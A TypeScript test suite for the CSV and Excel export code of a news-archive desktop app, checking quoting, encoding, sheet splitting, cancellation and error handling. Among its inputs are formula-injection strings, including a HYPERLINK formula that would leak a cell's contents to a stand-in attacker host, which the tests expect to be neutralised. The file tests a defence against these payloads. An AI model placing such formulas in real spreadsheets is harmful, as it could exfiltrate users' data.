import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { CsvSink } from '../electron/export/csv.js';
import { duplicatesPlan } from '../electron/export/duplicates.js';
import { XlsxSink } from '../electron/export/xlsx.js';
import { outputPaths } from '../electron/export/sink.js';
import type { Column } from '../electron/export/sink.js';
import { WorkbenchError } from '../electron/service.js';
import { importFiles, openArchive } from './dup-helpers.js';
import { fixture, tempDir } from './helpers.js';

/** Cells a user could type into a news archive that a CSV writer gets wrong: every one must come back as it went in. */
const TRICKY = [
  'Presiden: "kerja sama", energi; kawasan',
  'baris satu\r\nbaris dua\nbaris tiga',
  'harga beras 🍚 naik — ½ kg',
  ' spasi di depan dan di belakang ',
  'a;b,c',
  'Ünïcödé İstanbul Đà Nẵng',
];
const FORMULAS = ['=HYPERLINK("http://evil.example","klik")', '+62 21 555', '-5 derajat', '@SUM(A1:A9)', '\tTAB', '\rCR', '=1+1\nbaris dua'];

const columns: Column[] = [
  { header: 'id', type: 'integer' },
  { header: 'published', type: 'date' },
  { header: 'text', type: 'text' },
  { header: 'names', type: 'list' },
];

function parseCsv(file: string, delimiter = ','): { bom: boolean; rows: string[][]; raw: string } {
  const raw = readFileSync(file, 'utf8');
  const bom = raw.startsWith('\ufeff');
  const parsed = Papa.parse<string[]>(bom ? raw.slice(1) : raw, { delimiter, newline: '\r\n', skipEmptyLines: true });
  assert.deepEqual(parsed.errors, []);
  return { bom, rows: parsed.data, raw };
}

async function writeCsv(dir: string, rows: (string | number | string[] | null)[][], options = { delimiter: ',' as ',' | ';', bom: true }): Promise<string> {
  const { final, temp } = outputPaths(join(dir, 'out.csv'));
  const sink = new CsvSink(columns, temp, final, { ...options, sheet: 'x' });
  await sink.write(rows);
  await sink.finish();
  return final;
}

test('CSV: RFC 4180 quoting, CRLF, BOM, lists joined with "; ", and every tricky cell read back as written', async (t) => {
  const dir = tempDir(t);
  const rows = TRICKY.map((text, i) => [i + 1, '2024-03-04', text, ['Joko Widodo', 'Anthony Albanese']]);
  const file = await writeCsv(dir, rows);
  const { bom, rows: back, raw } = parseCsv(file);
  assert.ok(bom, 'UTF-8 byte-order mark first');
  assert.deepEqual(back[0], ['id', 'published', 'text', 'names']);
  assert.deepEqual(
    back.slice(1),
    rows.map((r) => [String(r[0]), r[1], r[2], 'Joko Widodo; Anthony Albanese']),
  );
  // Every record ends in CRLF; the only bare LFs are inside quoted cells.
  assert.ok(raw.endsWith('\r\n'));
  assert.equal(raw.split('\r\n').length - 1, back.length + 1, 'one CRLF per record, plus the one inside the multi-line cell');
  assert.match(raw, /"Presiden: ""kerja sama"", energi; kawasan"/);
});

test('CSV: the semicolon preset and no BOM', async (t) => {
  const dir = tempDir(t);
  const file = await writeCsv(dir, [[1, null, 'a;b,c', []]], { delimiter: ';', bom: false });
  const { bom, rows, raw } = parseCsv(file, ';');
  assert.equal(bom, false);
  assert.equal(raw.split('\r\n')[0], 'id;published;text;names');
  assert.deepEqual(rows[1], ['1', '', 'a;b,c', '']);
});

test('CSV: cells that a spreadsheet would run as formulas start with a quote mark; numbers stay numbers', async (t) => {
  const dir = tempDir(t);
  const file = await writeCsv(dir, [...FORMULAS.map((f, i) => [i, null, f, [f]]), [-7, null, 'negatif', []]]);
  const { rows } = parseCsv(file);
  FORMULAS.forEach((f, i) => {
    assert.equal(rows[i + 1]![2], `'${f}`, `cell ${JSON.stringify(f)}`);
    assert.equal(rows[i + 1]![3], `'${f}`, `list ${JSON.stringify(f)}`);
  });
  assert.equal(rows.at(-1)![0], '-7', 'a number is not text and keeps its sign');
});

test('CSV and workbook: a cancelled or failed export leaves no file, and a file already there untouched', async (t) => {
  const dir = tempDir(t);
  const target = join(dir, 'report.csv');
  writeFileSync(target, 'the old report');
  for (const Sink of [CsvSink, XlsxSink]) {
    const { final, temp } = outputPaths(target);
    const sink = new Sink(columns, temp, final, { delimiter: ',', bom: true, sheet: 'x' });
    await sink.write([[1, '2024-01-01', 'x', []]]);
    await sink.abort();
    assert.equal(readFileSync(target, 'utf8'), 'the old report');
    assert.deepEqual(readdirSync(dir), ['report.csv'], 'no temporary file left');
  }
  assert.throws(() => outputPaths(join(dir, 'no-such-folder', 'x.csv')), /does not exist/);
  assert.throws(() => outputPaths(dir), /is a folder/);
});

async function readBook(file: string): Promise<ExcelJS.Workbook> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(file);
  return book;
}

test('workbook: date cells, numbers, text never a formula, a frozen header, widths that fit, more sheets past the row limit', async (t) => {
  const dir = tempDir(t);
  const { final, temp } = outputPaths(join(dir, 'out.xlsx'));
  const sink = new XlsxSink(columns, temp, final, { delimiter: ',', bom: true, sheet: 'Articles', rowsPerSheet: 4 });
  const rows = [
    ...FORMULAS.map((f, i) => [i + 1, '2024-03-04T09:30:00+07:00', f, ['a', 'b']]),
    [100, '2024-03-05', TRICKY.join(' | '), []],
    [101, null, 'x\u0001y', null],
  ];
  await sink.write(rows);
  await sink.finish();
  const book = await readBook(final);
  assert.deepEqual(book.worksheets.map((s) => s.name), ['Articles', 'Articles (2)', 'Articles (3)']);
  assert.match(sink.notes().join(), /2 more sheets/);
  const all = book.worksheets.flatMap((s) => {
    assert.equal(s.getRow(1).getCell(1).value, 'id', 'each sheet has the header');
    assert.equal(s.views[0]?.state, 'frozen');
    assert.equal(s.views[0]?.ySplit, 1);
    return s.getRows(2, s.rowCount - 1) ?? [];
  });
  assert.equal(all.length, rows.length);
  FORMULAS.forEach((f, i) => {
    const r = all[i]!;
    assert.equal(r.getCell(1).value, i + 1);
    assert.equal(r.getCell(1).type, ExcelJS.ValueType.Number);
    const date = r.getCell(2).value;
    assert.ok(date instanceof Date, 'a date cell');
    assert.equal(date.toISOString(), '2024-03-04T09:30:00.000Z', 'the time of day as the article states it');
    assert.equal(r.getCell(3).value, f.replace(/\r\n?/g, '\n'), 'text as given, line breaks as Excel writes them');
    assert.equal(r.getCell(3).type, ExcelJS.ValueType.String, 'a string, not a formula');
    assert.equal(r.getCell(3).formula, undefined);
    assert.equal(r.getCell(4).value, 'a; b');
  });
  assert.equal((all[FORMULAS.length]!.getCell(2).value as Date).toISOString(), '2024-03-05T00:00:00.000Z');
  assert.equal(all[FORMULAS.length]!.getCell(2).numFmt, 'yyyy-mm-dd');
  assert.equal(all[FORMULAS.length]!.getCell(3).value, TRICKY.join(' | ').replace(/\r\n/g, '\n'));
  assert.equal(all[FORMULAS.length + 1]!.getCell(3).value, 'xy', 'characters XML cannot hold are dropped');
  const widths = book.worksheets[0]!.columns.map((c) => c.width ?? 0);
  assert.ok(widths[0]! >= 6 && widths[0]! < 10, `id column narrow (${widths[0]})`);
  assert.ok(widths[2]! >= 30 && widths[2]! <= 60, `text column fits its text within bounds (${widths[2]})`);
});

test('workbook: rows wait for the zip, so what is not yet compressed stays bounded across sheets', async (t) => {
  const dir = tempDir(t);
  const { final, temp } = outputPaths(join(dir, 'big.xlsx'));
  const sink = new XlsxSink(columns, temp, final, { delimiter: ',', bom: true, sheet: 'Big', rowsPerSheet: 12_000 });
  const text = 'Presiden menerima kunjungan Perdana Menteri di Istana Merdeka, Jakarta, membahas kerja sama energi bersih. ';
  let most = 0;
  for (let page = 0; page < 30; page++) {
    await sink.write(Array.from({ length: 1000 }, (_, i) => [page * 1000 + i, '2024-03-04', `${text}${page}-${i}`, ['Jakarta']]));
    const pipe = sink.zipInput();
    // Past the first 200 rows (held to fix the widths) a sheet is open; exceljs 4.4 keeps its zip input here.
    assert.ok(pipe, 'the stream between the sheet and the zip, where exceljs 4.4 has it');
    most = Math.max(most, pipe._writableState.length);
  }
  await sink.finish();
  // 30,000 rows of about 150 bytes: 4.5 MB of XML would sit in the pipe without the wait.
  assert.ok(most < 512 * 1024, `at most ${most} bytes waiting for the zip`);
  const book = await readBook(final);
  assert.deepEqual(book.worksheets.map((w) => w.rowCount), [12_001, 12_001, 6_001]);
  assert.equal(book.worksheets[2]!.getRow(6_001).getCell(1).value, 29_999);
});

/** The fixture archive: five articles in Indonesian and English, one titled like a formula, one undated. */
async function fixtureArchive(t: { after: (fn: () => void) => void }) {
  const ctx = await openArchive(t);
  await importFiles(ctx.wb, [fixture('export', 'artikel.jsonl')]);
  return ctx;
}

test('articles: any query, in result order, with the chosen columns; a saved search; CSV and workbook agree cell by cell', async (t) => {
  const { wb, dir } = await fixtureArchive(t);
  const csv = join(dir, 'a.csv');
  const xlsx = join(dir, 'a.xlsx');
  const columnsWanted = ['id', 'published', 'source', 'section', 'title', 'url', 'language', 'countries', 'persons', 'tags', 'words', 'snippet', 'text'] as const;
  wb.tag({ id: 1, action: 'add', entities: [{ kind: 'tag', name: 'diplomasi' }, { kind: 'tag', name: 'energi' }] });
  const r = await wb.export({ kind: 'articles', out: csv, query: 'Jakarta', sort: 'newest', columns: [...columnsWanted] });
  assert.deepEqual({ status: r.status, rows: r.rows, format: r.format, out: r.out }, { status: 'done', rows: 4, format: 'csv', out: csv });
  const search = wb.search({ query: 'Jakarta', sort: 'newest' }).results.map((h) => String(h.id));
  const { rows } = parseCsv(csv);
  assert.deepEqual(rows[0], [...columnsWanted]);
  assert.deepEqual(rows.slice(1).map((row) => row[0]), search, 'result order');
  const first = Object.fromEntries(columnsWanted.map((c, i) => [c, rows.find((row) => row[0] === '1')![i]]));
  assert.equal(first.title, 'Presiden Jokowi bertemu PM Albanese di Jakarta; bahas "kerja sama" energi');
  assert.equal(first.published, '2024-03-04T09:30:00+07:00', 'ISO 8601 as stored');
  assert.equal(first.source, 'kabarkota.example');
  assert.equal(first.section, 'news');
  assert.equal(first.language, 'id');
  assert.equal(first.countries, 'Indonesia; Australia');
  assert.deepEqual(first.persons!.split('; ').sort(), ['Anthony Albanese', 'Joko Widodo']);
  assert.equal(first.tags, 'diplomasi; energi');
  assert.equal(first.words, '32', '16 words a paragraph; Indo-Pasifik is one');
  assert.match(first.snippet!, /Jakarta/);
  assert.doesNotMatch(first.snippet!, /[\uE000\uE001]/, 'no match markers');
  assert.equal(first.text, wb.article({ id: 1 }).paragraphs.map((p) => p.text).join('\n\n'), 'the full text, paragraphs and all');

  await wb.export({ kind: 'articles', out: xlsx, query: 'Jakarta', sort: 'newest', columns: [...columnsWanted] });
  const sheet = (await readBook(xlsx)).worksheets[0]!;
  assert.equal(sheet.rowCount, rows.length);
  for (let i = 0; i < rows.length; i++) {
    rows[i]!.forEach((expected, j) => {
      const cell = sheet.getRow(i + 1).getCell(j + 1);
      const v = cell.value;
      const got = v instanceof Date ? v.toISOString() : v === null || v === undefined ? '' : String(v);
      // The workbook keeps text as text without the CSV's guard quote, and dates as date cells.
      const want =
        i > 0 && columnsWanted[j] === 'published' && expected !== '' ? new Date(`${expected.slice(0, 19)}Z`).toISOString() : expected.replace(/^'(?=[=+\-@\t\r])/, '');
      assert.equal(got, want, `row ${i + 1}, ${columnsWanted[j]}`);
    });
  }

  wb.savedAdd({ name: 'banjir', query: 'banjir OR beras' });
  const saved = await wb.export({ kind: 'articles', out: csv, saved: 'banjir', sort: 'oldest', columns: ['id', 'title'] });
  assert.equal(saved.rows, 2);
  assert.deepEqual(parseCsv(csv).rows.slice(1), [
    ['2', '\'=HYPERLINK("http://evil.example/?leak="&A1,"Klik di sini")'],
    ['3', 'Harga beras naik, warga antre 🍚 di pasar'],
  ]);
  await assert.rejects(wb.export({ kind: 'articles', out: csv, saved: 'nope' }), (e: unknown) => e instanceof WorkbenchError && e.code === 'not_found');
  await assert.rejects(wb.export({ kind: 'articles', out: csv, query: 'title:(' }), (e: unknown) => e instanceof WorkbenchError && e.code === 'invalid_query');
  await assert.rejects(wb.export({ kind: 'articles', out: csv, columns: ['id', 'nope' as 'id'] }), (e: unknown) => e instanceof WorkbenchError && e.code === 'invalid_request');
});

test('articles: the empty query exports every article, undated last in date order; confirmed-only names', async (t) => {
  const { wb, dir } = await fixtureArchive(t);
  const out = join(dir, 'all.csv');
  wb.tag({ id: 4, action: 'confirm', entities: [{ kind: 'person', name: 'Anthony Albanese' }] });
  await wb.export({ kind: 'articles', out, sort: 'oldest', columns: ['id', 'published', 'persons'], confirmedOnly: true });
  const { rows } = parseCsv(out);
  assert.deepEqual(rows.slice(1).map((r) => r[0]), ['1', '2', '4', '3', '5']);
  assert.deepEqual(rows.slice(1).map((r) => r[2]), ['', '', 'Anthony Albanese', '', '']);
});

test('entity counts: countries per ISO week, wide and long; persons per day', async (t) => {
  const { wb, dir } = await fixtureArchive(t);
  const wide = join(dir, 'wide.csv');
  await wb.export({ kind: 'entity-counts', out: wide, period: 'week' });
  const { rows } = parseCsv(wide);
  assert.deepEqual(rows[0], ['country', 'code', 'total', '2024-W10', '2024-W11']);
  const indonesia = rows.find((r) => r[1] === 'ID');
  assert.deepEqual(indonesia, ['Indonesia', 'ID', '4', '3', '1'], 'articles 1, 2(?), 4 in week 10 and 3 in week 11');
  const long = join(dir, 'long.xlsx');
  await wb.export({ kind: 'entity-counts', out: long, period: 'day', entity: 'person', layout: 'long', query: 'Albanese' });
  const sheet = (await readBook(long)).worksheets[0]!;
  const values = (sheet.getRows(1, sheet.rowCount) ?? []).map((r) => (r.values as unknown[]).slice(1));
  assert.deepEqual(values[0], ['person', 'period', 'articles']);
  assert.deepEqual(
    values.filter((v) => v[0] === 'Anthony Albanese'),
    [
      ['Anthony Albanese', '2024-03-04', 1],
      ['Anthony Albanese', '2024-03-05', 1],
    ],
  );
});

test('duplicate clusters: one row per cluster, or per member with its similarity', async (t) => {
  const { wb, dir } = await openArchive(t);
  await importFiles(wb, ['lawatan-asli.txt', 'lawatan-salinan.txt', 'lawatan-kutipan.txt'].map((f) => fixture('duplicates', f)));
  const listed = wb.dups({ limit: 1000 });
  assert.ok(listed.total >= 3);
  const out = join(dir, 'd.csv');
  const r = await wb.export({ kind: 'duplicates', out });
  assert.equal(r.rows, listed.total);
  const { rows } = parseCsv(out);
  assert.deepEqual(rows[0], ['cluster', 'size', 'outlets', 'sources', 'first_article', 'first_source', 'first_published', 'last_published', 'text']);
  for (const c of listed.clusters) {
    const row = rows.find((x) => x[0] === String(c.id))!;
    assert.deepEqual(row.slice(1, 3), [String(c.size), String(c.outlets)]);
    assert.equal(row[4], String(c.firstSeen.articleId));
    assert.equal(row[8], c.text);
  }
  const members = join(dir, 'm.csv');
  const m = await wb.export({ kind: 'duplicates', out: members, members: true });
  assert.equal(m.rows, listed.clusters.reduce((n, c) => n + c.size, 0));
  const memberRows = parseCsv(members).rows;
  const firsts = memberRows.slice(1).filter((x) => x[3] === x[6] && x[7] === String(listed.clusters.find((c) => String(c.id) === x[0])!.firstSeen.paragraph));
  assert.equal(firsts.length, listed.total, 'each cluster lists its first-seen paragraph');
  assert.ok(firsts.every((x) => x[12] === '1'));
});

test('entities: the registry with aliases and article counts', async (t) => {
  const { wb, dir } = await fixtureArchive(t);
  wb.entityAlias({ entity: { kind: 'person', name: 'Joko Widodo' }, alias: 'Pak Jokowi' });
  const out = join(dir, 'e.csv');
  await wb.export({ kind: 'entities', out, entity: 'person' });
  const { rows } = parseCsv(out);
  assert.deepEqual(rows[0], ['kind', 'name', 'code', 'aliases', 'articles', 'confirmed', 'country', 'office', 'muted', 'origin']);
  const jokowi = rows.find((r) => r[1] === 'Joko Widodo')!;
  assert.ok(jokowi[3]!.split('; ').includes('Pak Jokowi'));
  assert.equal(jokowi[4], '2');
  assert.ok(rows.slice(1).every((r) => r[0] === 'person'));
});

test('export: progress in pages and a cancel between them leave no file; the next export writes it whole', async (t) => {
  const { wb, dir } = await fixtureArchive(t);
  const out = join(dir, 'cancel.csv');
  const controller = new AbortController();
  const seen: number[] = [];
  const r = await wb.export(
    { kind: 'entities', out },
    {
      signal: controller.signal,
      onProgress: (p) => {
        seen.push(p.done);
        // Cancelled as soon as the first page is written: the export stops before the next.
        if (p.done > 0) controller.abort();
      },
    },
  );
  assert.equal(r.status, 'cancelled');
  assert.equal(existsSync(out), false);
  assert.deepEqual(readdirSync(dir).filter((f) => f.includes('cancel')), []);
  assert.equal(seen[0], 0);
  const done = await wb.export({ kind: 'entities', out });
  assert.equal(done.status, 'done');
  assert.equal(parseCsv(out).rows.length, done.rows + 1);
});

test('a file that cannot be written fails the export with its error, for CSV and workbook, without hanging or leaving a file', { timeout: 60_000 }, async (t) => {
  for (const Sink of [CsvSink, XlsxSink]) {
    for (const when of ['write', 'finish'] as const) {
      const dir = join(tempDir(t), 'gone');
      mkdirSync(dir);
      const { final, temp } = outputPaths(join(dir, 'out.file'));
      const sink = new Sink(columns, temp, final, { delimiter: ',', bom: true, sheet: 'x' });
      // The folder goes before the file is opened (which happens on a later turn): every write to it fails.
      rmSync(dir, { recursive: true });
      const rows = Array.from({ length: when === 'write' ? 300 : 5 }, (_, i) => [i, '2024-03-04', 'teks', []]);
      const attempt = async (): Promise<void> => {
        await sink.write(rows);
        await sink.finish();
      };
      await assert.rejects(attempt(), (e: NodeJS.ErrnoException) => e.code === 'ENOENT', `${Sink.name} failing on ${when}`);
      await sink.abort();
      assert.equal(existsSync(dir), false, 'nothing created');
    }
  }
});

test('export: never over the archive itself; the entities export refuses a query; odd cells written so readers keep them', async (t) => {
  const { wb, db, dir } = await fixtureArchive(t);
  for (const out of [db, `${db}-wal`, join(dir, '.', 'a.db')]) {
    await assert.rejects(wb.export({ kind: 'articles', out }), (e: unknown) => e instanceof WorkbenchError && /it is the archive itself/.test(e.message));
  }
  assert.equal(wb.stats().articles, 5, 'the archive is untouched');
  await assert.rejects(wb.export({ kind: 'entities', out: join(dir, 'e.csv'), query: 'Jakarta' }), /whole registry/);
  // One column, every cell empty: quoted, so each stays a row.
  const authors = join(dir, 'authors.csv');
  await wb.export({ kind: 'articles', out: authors, columns: ['author'] });
  assert.equal(readFileSync(authors, 'utf8'), `\ufeffauthor\r\n${'""\r\n'.repeat(5)}`);
});

test('duplicates: the semicolon preset writes decimals with a comma; members come a page of rows at a time however large a cluster', async (t) => {
  const { wb, dir } = await openArchive(t);
  await importFiles(wb, ['lawatan-asli.txt', 'lawatan-salinan.txt', 'lawatan-kutipan.txt'].map((f) => fixture('duplicates', f)));
  const out = join(dir, 'm.csv');
  await wb.export({ kind: 'duplicates', out, members: true, delimiter: ';' });
  const { rows } = parseCsv(out, ';');
  const similarity = rows[0]!.indexOf('similarity');
  const values = rows.slice(1).map((r) => r[similarity]!);
  assert.ok(values.includes('1'));
  assert.ok(values.some((v) => /^0,\d+$/.test(v)), `an edited copy's similarity with a decimal comma: ${values.join(' ')}`);

  const archive = (wb as unknown as { archive: Parameters<typeof duplicatesPlan>[0] }).archive;
  const plan = duplicatesPlan(archive, { query: null, sort: 'size', minSize: 2, members: true, rowsPerPage: 2 });
  const pages = [...plan.pages()];
  assert.ok(pages.every((p) => p.rows.length <= 2));
  assert.equal(pages.reduce((n, p) => n + p.rows.length, 0), wb.dups({ limit: 1000 }).clusters.reduce((n, c) => n + c.size, 0));
  assert.equal(pages.at(-1)!.done, plan.total);
});
